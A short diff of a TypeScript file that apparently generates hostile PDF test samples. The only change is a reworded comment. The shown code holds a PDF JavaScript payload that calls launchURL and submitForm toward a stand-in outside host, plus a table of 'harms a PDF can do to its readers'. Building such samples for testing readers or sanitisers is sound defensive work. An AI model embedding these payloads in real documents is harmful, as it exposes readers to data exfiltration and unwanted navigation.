@@ -82,7 +82,7 @@ const script = (code: string) => `<</S/JavaScript/JS(${code})>>`
 const CALL = `app.alert(1);app.launchURL('${OUTSIDE}');this.submitForm('${OUTSIDE}')`
 const nested = (depth: number, open: string, close: string, within = '') => open.repeat(depth) + within + close.repeat(depth)
 
-/** What a PDF can do to its readers, each a rule that makes one. */
+/** Harm that a PDF can do to its readers, each with a rule that makes one. */
 const KINDS: Readonly<Record<string, (random: Random) => Buffer>> = {
   'bytes changed': (random) => {
     const bytes = onePage({})
